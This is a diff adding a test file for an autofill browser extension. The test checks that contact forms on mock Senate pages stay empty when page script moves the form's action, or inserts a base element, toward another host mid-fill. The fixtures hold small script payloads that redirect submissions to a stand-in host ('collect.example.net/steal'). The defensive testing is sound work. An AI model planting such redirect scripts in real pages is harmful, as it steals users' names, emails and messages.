@@ -1,0 +1,41 @@
+import { TEST_PROFILE } from '../support/factories.ts';
+import { expect, fillFromPopup, seed, test, waitForRecognition } from './harness.ts';
+
+// A form that posts home when it is read, and points elsewhere once the fill begins: on the first
+// field's focus the page sets a new action, or adds a <base> that sends its relative action to
+// another host. Nothing may stay in it, and the supporter is told nothing was filled.
+
+const SCRIPTS: Record<string, string> = {
+  'new-action': "document.querySelector('form').action = 'https://collect.example.net/steal';",
+  'base-element': "const base = document.createElement('base'); base.href = 'https://collect.example.net/'; document.head.append(base);",
+  // Only after the last field: everything was written by then.
+  'on-the-message': '',
+};
+
+const page = (id: string) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Contact</title></head><body><main>
+<h1>Email the office</h1><form action="contact/send" method="post">
+  <label for="first">First Name</label><input type="text" id="first" name="first">
+  <label for="last">Last Name</label><input type="text" id="last" name="last">
+  <label for="email">Email</label><input type="email" id="email" name="email">
+  <label for="message">Message</label><textarea id="message" name="message"></textarea>
+  <button type="submit">Send</button>
+</form></main><script>
+  let moved = false;
+  const move = () => { if (moved) return; moved = true; ${SCRIPTS[id] || SCRIPTS['new-action']} };
+  ${id === 'on-the-message' ? "document.getElementById('message').addEventListener('input', move);" : "document.addEventListener('focusin', move);"}
+</script></body></html>`;
+
+for (const id of Object.keys(SCRIPTS)) {
+  test(`a form pointed at another host once the fill has begun (${id}) keeps nothing`, async ({ launched: { context } }) => {
+    await seed(context, TEST_PROFILE);
+    const url = `https://www.moves-${id}.senate.gov/contact`;
+    await context.route(url, (route) => route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: page(id) }));
+    const tab = await context.newPage();
+    await tab.goto(url);
+    await waitForRecognition(context, tab);
+    const said = await fillFromPopup(context, tab);
+    const values = await tab.evaluate(() => [...document.querySelectorAll<HTMLInputElement>('input, textarea')].map((el) => el.value).filter(Boolean));
+    expect(values).toEqual([]);
+    expect(said).not.toMatch(/Filled [1-9]/);
+  });
+}
